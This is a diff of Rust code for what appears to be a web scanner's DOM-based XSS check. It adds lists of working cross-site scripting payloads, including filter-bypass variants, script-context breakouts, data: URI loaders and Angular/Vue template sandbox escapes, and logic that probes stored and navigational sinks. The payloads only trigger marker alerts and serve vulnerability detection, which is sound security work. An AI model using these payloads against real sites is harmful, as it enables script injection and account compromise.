@@ -7,11 +7,15 @@ use futures_util::FutureExt;
 use futures_util::future::BoxFuture;
 use regex::Regex;
 
+use self::source::{Source, bundles, sign, with_all};
 use super::{scripts, seen_before};
 use crate::checks::{About, Bench, Check, Entry};
-use crate::http::{Request, encode};
-use crate::point::{Place, Point, Put};
+use crate::http::encode;
+use crate::point::{Place, Point};
 use crate::proof::{Control, Expect, Replay, Step};
+
+mod gleaned;
+mod source;
 
 /// See [`About`].
 pub(super) struct DomXss;
@@ -33,147 +37,7 @@ static ABOUT: About = About {
 /// What the hooks in the page look for.
 const CANARY: &str = "rdbtc4n4ry";
 /// What a dialog says when our code runs.
-const MARKER: &str = "rdbt76150";
-
-/// Where the browser brings something along.
-#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
-pub(super) enum Source {
-    /// All after the `#`.
-    Fragment(String),
-    /// The nth field of the query.
-    Query(Point),
-    /// A field of the query that the script asks for.
-    NewQuery(String),
-    /// The name of the window.
-    Name,
-    /// A message, as text or as a member of an object.
-    Message(String),
-}
-
-impl Source {
-    /// Puts a value there, beside what other sources have.
-    fn put(&self, request: &mut Request, value: &str) {
-        match self {
-            Self::Query(point) => *request = request.with(point, Put::Text(value)),
-            Self::NewQuery(name) => {
-                let mut fields = request.query();
-                fields.retain(|(have, _)| have != name);
-                fields.push((name.clone(), value.to_owned()));
-                request.set_query(&fields);
-            }
-            Self::Fragment(shape) => {
-                let visit = request.visit.get_or_insert_default();
-                let before = visit.fragment.take().map(|before| before + "&").unwrap_or_default();
-                visit.fragment = Some(before + &shape.replace("{}", value));
-            }
-            Self::Name => request.visit.get_or_insert_default().window_name = Some(value.to_owned()),
-            Self::Message(shape) => {
-                request.visit.get_or_insert_default().message = Some(shape.replace("{}", value));
-            }
-        }
-    }
-
-    pub(super) fn name(&self) -> String {
-        match self {
-            Self::Fragment(shape) => format!("#{}", shape.replace("{}", "")),
-            Self::Query(point) => point.name.clone(),
-            Self::NewQuery(name) => name.clone(),
-            Self::Name => "window.name".to_owned(),
-            Self::Message(_) => "message".to_owned(),
-        }
-    }
-}
-
-/// Sources that one visit can bring along together: fields, the window's name and a message, or a shape of the fragment.
-pub(super) fn bundles(sources: &[Source]) -> Vec<Vec<&Source>> {
-    let (mut fields, mut named): (Vec<&Source>, Vec<&Source>) = Default::default();
-    let mut others = Vec::new();
-    for source in sources {
-        match source {
-            Source::Fragment(shape) if shape.contains('=') => named.push(source),
-            Source::Fragment(_) => others.push(vec![source]),
-            Source::Message(_) if fields.iter().any(|have| matches!(have, Source::Message(_))) => {
-                others.push(vec![source]);
-            }
-            _ => fields.push(source),
-        }
-    }
-    [fields, named].into_iter().filter(|bundle| !bundle.is_empty()).chain(others).collect()
-}
-
-/// A request that brings a value of its own along in each source.
-pub(super) fn with_all(request: &Request, bundle: &[&Source], value: impl Fn(usize) -> String) -> Request {
-    let mut request = request.clone();
-    bundle.iter().enumerate().for_each(|(n, source)| source.put(&mut request, &value(n)));
-    request
-}
-
-/// A sign for the nth source of a bundle: no sign is the beginning of another.
-fn sign(n: usize) -> String {
-    format!("z{n}z")
-}
-
-/// The sources that a page's scripts read.
-pub(super) fn sources(entry: &Entry, text: &str) -> Vec<Source> {
-    let mut all = Vec::new();
-    let reads = |words: &[&str]| words.iter().any(|word| text.contains(word));
-    let whole = reads(&[
-        "location.href",
-        "document.URL",
-        "documentURI",
-        "baseURI",
-        "location.toString",
-        "(location)",
-        "+location",
-    ]);
-    if whole || reads(&["hash"]) {
-        all.push(Source::Fragment("{}".to_owned()));
-        let names = regex::Regex::new(r#"\.get\(\s*['"]([\w-]{1,30})['"]|['"]#?([\w-]{1,30})=['"]"#).ok();
-        let names = names.iter().flat_map(|regex| regex.captures_iter(text).collect::<Vec<_>>());
-        let names: BTreeSet<String> = names
-            .filter_map(|found| found.iter().skip(1).flatten().next().map(|m| m.as_str().to_owned()))
-            .collect();
-        all.extend(names.into_iter().take(5).map(|name| Source::Fragment(format!("{name}={{}}"))));
-        if reads(&["#!", "#/", "'/'", "\"/\""]) {
-            all.push(Source::Fragment("/{}".to_owned()));
-            all.push(Source::Fragment("!{}".to_owned()));
-        }
-    }
-    if whole || reads(&["location.search", "URLSearchParams", "searchParams", "search"]) {
-        let points =
-            entry.request.points().into_iter().filter(|point| matches!(point.place, Place::Query(_)));
-        all.extend(points.map(Source::Query));
-        let regex = regex::Regex::new(r#"\.get(?:All)?\(\s*['"]([\w-]{1,30})['"]|[?&]([\w-]{1,30})=|['"]([\w-]{1,30})=['"]|([\w-]{2,30})=\((?:\[|\.|\?)|(?:param|query|q|arg)\w*\(\s*['"]([\w-]{1,30})['"]"#).ok();
-        let names: BTreeSet<String> = regex
-            .iter()
-            .flat_map(|regex| regex.captures_iter(text).collect::<Vec<_>>())
-            .filter_map(|found| found.iter().skip(1).flatten().next().map(|m| m.as_str().to_owned()))
-            .collect();
-        let known: BTreeSet<String> = entry.request.query().into_iter().map(|(name, _)| name).collect();
-        all.extend(names.difference(&known).take(6).cloned().map(Source::NewQuery));
-        if whole && all.is_empty() {
-            all.push(Source::NewQuery("x".to_owned()));
-        }
-    }
-    if reads(&["window.name", "self.name", "top.name"]) {
-        all.push(Source::Name);
-    }
-    if reads(&["onmessage", "'message'", "\"message\""]) {
-        all.push(Source::Message("{}".to_owned()));
-        let members: BTreeSet<&str> = regex::Regex::new(r"data\.([a-zA-Z_]\w{0,30})")
-            .iter()
-            .flat_map(|regex| {
-                regex.captures_iter(text).filter_map(|f| f.get(1)).map(|m| m.as_str()).collect::<Vec<_>>()
-            })
-            .collect();
-        if reads(&["JSON.parse"]) && !members.is_empty() {
-            let object: Vec<String> =
-                members.iter().take(5).map(|name| format!("\"{name}\":\"{{}}\"")).collect();
-            all.push(Source::Message(format!("{{{}}}", object.join(","))));
-        }
-    }
-    all
-}
+const MARKER: &str = "76150431";
 
 // What is put in for each kind of sink; the first is the plainest. `{M}` is the marker.
 const HTML: &[&str] = &[
@@ -185,7 +49,17 @@ const HTML: &[&str] = &[
     "<script>alert('{M}')</script>",
     "<iframe srcdoc=\"<script>parent.alert('{M}')</script>\">",
     "%3Cimg src=x onerror=alert('{M}')%3E",
+    "\\u003cimg src=x onerror=alert({M})\\u003e",
+    "\\x3cimg src=x onerror=alert({M})\\x3e",
     "<img src=x onerror=alert`{M}`>",
+    "<img src=x onerror=alert({M})>",
+    "<>\"'<img src=x onerror=alert('{M}')>",
+    "<details open ontoggle=alert('{M}')>",
+    "<input autofocus onfocus=alert('{M}')>",
+    "<iframe src=\"javascript:parent.alert('{M}')\"></iframe>",
+    "<IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;{M}&#41;>",
+    "<img src=x oonnerror=alert('{M}')>",
+    "<scr<script>ipt>alert('{M}')</scr</script>ipt><im<img>g src=x oonerrornerror=alert('{M}')>",
 ];
 const SCRIPT: &[&str] = &[
     "alert('{M}')",
@@ -199,20 +73,45 @@ const SCRIPT: &[&str] = &[
     ")}};alert('{M}');//",
     "\\');alert('{M}');//",
     "${alert('{M}')}",
+    "<%alert('{M}')%>",
+    "\\\"-alert('{M}')}//",
+    "\"-alert('{M}')}//",
+    "\\\";alert('{M}');//",
+    "`-alert('{M}')-`",
+];
+/// What selects elements in libraries that make elements of markup.
+const SELECTOR: &[&str] = &["<img src=x onerror=alert('{M}')>", "#<img src=x onerror=alert('{M}')>"];
+/// What is loaded as a script.
+const LOADED: &[&str] =
+    &["data:text/javascript,alert('{M}')", "data:text/javascript,alert('{M}')//.js", "data:,alert('{M}')//"];
+/// What template libraries that read the finished page compute; the first is for most, the others for old ones.
+const TEMPLATE: &[&str] = &[
+    "{{constructor.constructor('alert(/{M}/)')()}}",
+    "{{_openBlock.constructor('alert(/{M}/)')()}}",
+    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(/{M}/)//');}}",
+    "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(/{M}/)')()}}",
 ];
 const URL: &[&str] = &[
     "javascript:alert('{M}')",
     "javascript://%0aalert('{M}')",
     "data:text/html,<script>alert('{M}')</script>",
     "\tjavascript:alert('{M}')",
+    "javascript:alert('{M}')//http://https://",
 ];
 
 /// What is put in for sinks.
 fn payloads(sinks: &BTreeSet<String>) -> Vec<&'static str> {
     let mut all = Vec::new();
-    for (sink, list) in
-        [("html", HTML), ("script", SCRIPT), ("url", URL), ("attribute", URL), ("attribute", SCRIPT)]
-    {
+    let lists = [
+        ("html", HTML),
+        ("selector", SELECTOR),
+        ("script", SCRIPT),
+        ("loaded", LOADED),
+        ("url", URL),
+        ("attribute", URL),
+        ("attribute", SCRIPT),
+    ];
+    for (sink, list) in lists {
         if sinks.contains(sink) {
             all.extend(list.iter().copied().filter(|payload| !all.contains(payload)).collect::<Vec<_>>());
         }
@@ -227,10 +126,42 @@ impl Check for DomXss {
 
     fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
         bench.opener?;
-        let text = scripts(entry, bench.entries).filter(|text| !seen_before(entry, bench.entries, text))?;
-        let sources = sources(entry, &text);
-        (!sources.is_empty()).then(|| test(bench, entry, sources, text).boxed())
+        let text = scripts(entry, bench.entries)?;
+        let has_news =
+            (text.contains("search") || has_templates(entry, &text)) && has_new_names(entry, bench.entries);
+        if seen_before(entry, bench.entries, &text) && !has_news {
+            return None;
+        }
+        let own = own(entry, bench.entries);
+        let sources = source::sources(entry, &text, &own);
+        (!sources.is_empty()).then(|| test(bench, entry, sources, text, own).boxed())
     }
+}
+
+/// Whether the query has a name that no earlier query of the same path had.
+fn has_new_names(entry: &Entry, entries: &[Entry]) -> bool {
+    let url = &entry.request.url;
+    let earlier = entries.iter().take_while(|other| other.request != entry.request);
+    let earlier = earlier
+        .filter(|other| other.request.url.path == url.path && other.request.url.origin == url.origin)
+        .flat_map(|other| other.request.query());
+    let known: BTreeSet<String> = earlier.map(|(name, _)| name).collect();
+    entry.request.query().iter().any(|(name, _)| !known.contains(name))
+}
+
+/// The scripts of a page without those of well-known libraries, whose names say nothing of what the page reads.
+fn own(entry: &Entry, entries: &[Entry]) -> String {
+    let Some(page) = entry.page.as_deref() else { return String::new() };
+    let mut text = page.inline_scripts.join("\n");
+    for script in &page.scripts {
+        let loaded = entries.iter().find(|other| other.request.url == *script);
+        let Some(loaded) = loaded.map(|other| other.response.text()) else { continue };
+        if loaded.len() < 60_000 && !loaded.trim_start().starts_with("/*!") {
+            text.push('\n');
+            text += loaded;
+        }
+    }
+    text
 }
 
 /// Whether scripts have any place where text becomes markup or code.
@@ -249,7 +180,11 @@ fn has_sinks(text: &str) -> bool {
         "setAttribute",
         ".html(",
         ".append(",
+        "parseFromString",
+        "$(",
+        "jQuery(",
         ".src",
+        ".action",
         ".href",
         "location",
     ];
@@ -267,21 +202,31 @@ fn navigates(text: &str) -> bool {
 /// What a visit told of the sinks that a text reached: the sink, and what arrived.
 fn reached<'t>(told: &'t [String], what: &str) -> Vec<(&'t str, &'t str)> {
     let lines = told.iter().filter_map(|line| line.strip_prefix("sink:")?.split_once('\u{1}'));
-    lines.filter(|(sink, value)| *sink != "text" && value.contains(what)).collect()
+    lines.filter(|(sink, value)| *sink != "text" && value.to_ascii_lowercase().contains(what)).collect()
 }
 
-async fn test(bench: &Bench<'_>, entry: &Entry, sources: Vec<Source>, text: String) {
+async fn test(bench: &Bench<'_>, entry: &Entry, sources: Vec<Source>, text: String, own: String) {
     let bundles = bundles(&sources);
     let mut proven: Vec<&Source> = Vec::new();
+    // What reads all of an address reads each name in it: that is said once.
+    let is_told = |proven: &[&Source], source: &Source| {
+        source.is_guess() && proven.iter().any(|have| have.is_guess() && have.slot() != source.slot())
+    };
     for bundle in &bundles {
         let mut arrived = arrivals(bench, entry, bundle).await;
         if arrived.is_empty() && bundle.len() > 1 && has_sinks(&text) {
             // One of them may have kept the others from being read.
-            for source in bundle {
+            for source in bundle.iter().filter(|source| !source.is_guess()).take(ALONE) {
                 arrived.extend(arrivals(bench, entry, &[source]).await);
             }
         }
         for (source, sinks) in arrived {
+            if proven.contains(&source) || is_told(&proven, source) {
+                continue;
+            }
+            if sinks.contains("stored") && !source.is_kept() {
+                by_storing(bench, entry, source).await;
+            }
             for payload in payloads_for(bench, entry, source, &sinks).await {
                 if attack(bench, entry, source, payload).await {
                     proven.push(source);
@@ -290,8 +235,48 @@ async fn test(bench: &Bench<'_>, entry: &Entry, sources: Vec<Source>, text: Stri
             }
         }
     }
-    if navigates(&text) {
-        by_going(bench, entry, &bundles, &proven).await;
+    if navigates(&own) {
+        by_running(bench, entry, (bundles.as_slice(), proven.as_slice()), URL).await;
+    }
+    if has_templates(entry, &text) {
+        by_running(bench, entry, (bundles.as_slice(), proven.as_slice()), TEMPLATE).await;
+    }
+}
+
+/// Most sources of a bundle that are tried alone.
+const ALONE: usize = 8;
+/// Most bundles that are tried without having been seen to arrive.
+const BLIND: usize = 4;
+/// Most pages that are asked whether they show what another one stored.
+const READERS: usize = 4;
+
+/// Whether the page's elements are read as templates in the browser.
+fn has_templates(entry: &Entry, text: &str) -> bool {
+    let page = entry.response.text();
+    let has = |words: &[&str]| words.iter().any(|word| page.contains(word));
+    (has(&["ng-app", "ng-bind", "data-ng-"]) && text.contains("angular"))
+        || text.contains("new Vue")
+        || text.contains("createApp(")
+        || text.contains("angular.bootstrap")
+}
+
+/// What a page keeps in the browser's storage may be shown by another: a payload is kept, then that one is opened.
+async fn by_storing(bench: &Bench<'_>, entry: &Entry, source: &Source) {
+    let reads = |other: &&Entry| {
+        let text = scripts(other, bench.entries).unwrap_or_default();
+        ["localStorage", "sessionStorage", "document.cookie"].iter().any(|word| text.contains(word))
+            && has_sinks(&text)
+    };
+    let others = bench.entries.iter().filter(|other| other.request.url != entry.request.url).filter(reads);
+    for other in others.take(READERS) {
+        let source = source.shown_by(&other.request.url);
+        for (source, sinks) in arrivals(bench, entry, &[&source]).await {
+            for payload in payloads_for(bench, entry, source, &sinks).await {
+                if attack(bench, entry, source, payload).await {
+                    return;
+                }
+            }
+        }
     }
 }
 
@@ -320,21 +305,28 @@ async fn payloads_for(
     let mut all = payloads(sinks);
     let Some(opener) = bench.opener else { return Vec::new() };
     if sinks.contains("html") {
-        let visit = with_all(&entry.request, &[source], |_| format!("{CANARY}<z"));
+        let visit = with_all(&entry.request, &[source], |_| format!("{CANARY}<z<z"));
         let told = opener.open(&bench.session.dress(&visit), &["sinks"]).await;
-        let stays =
-            reached(&told, CANARY).iter().any(|(sink, value)| *sink == "html" && value.contains("<z"));
-        all.retain(|payload| stays || !payload.contains('<'));
+        let stays = reached(&told, CANARY)
+            .iter()
+            .any(|(sink, value)| *sink == "html" && value.to_ascii_lowercase().contains("<z"));
+        all.retain(|payload| stays || !payload.contains('<') || !HTML.contains(payload));
     }
     all
 }
 
-/// Where a script goes to an address that a source gives, which no hook sees: payloads in all sources of a bundle at once.
-async fn by_going(bench: &Bench<'_>, entry: &Entry, bundles: &[Vec<&Source>], proven: &[&Source]) {
+/// Where a script goes to an address that a source gives, or has the page read as a template, no hook sees it: payloads in
+/// all sources of a bundle at once.
+async fn by_running(
+    bench: &Bench<'_>,
+    entry: &Entry,
+    (bundles, proven): (&[Vec<&Source>], &[&Source]),
+    payloads: &[&str],
+) {
     let Some(opener) = bench.opener else { return };
-    for bundle in bundles {
+    for bundle in bundles.iter().take(BLIND) {
         let bundle: Vec<&Source> = bundle.iter().copied().filter(|source| !proven.contains(source)).collect();
-        for payload in URL.iter().copied().filter(|_| !bundle.is_empty()) {
+        for payload in payloads.iter().copied().filter(|_| !bundle.is_empty()) {
             let marker = |n| format!("{MARKER}{}", sign(n));
             let visit = with_all(&entry.request, &bundle, |n| payload.replace("{M}", &marker(n)));
             let markers: Vec<String> = (0..bundle.len()).map(marker).collect();
